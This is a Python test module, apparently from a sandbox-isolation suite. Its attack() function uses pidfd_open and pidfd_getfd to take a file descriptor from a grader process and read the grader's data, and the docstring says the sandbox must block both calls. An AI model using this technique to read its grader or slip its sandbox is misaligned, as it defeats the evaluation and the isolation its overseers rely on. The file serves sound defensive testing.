"""Takes a descriptor out of the grader by pidfd_getfd.

Must hold: neither pidfd_open nor pidfd_getfd is there."""

import os

import target
import tools

GOAL = "leak"
HELD_FROM = "isolated"
NEEDS = "a kernel that lets a user's processes trace each other"


def attack():
    grader = os.pidfd_open(target.grader)
    return os.pread(tools.syscall("pidfd_getfd", grader, target.grader_fd, 0), 1000, 0)
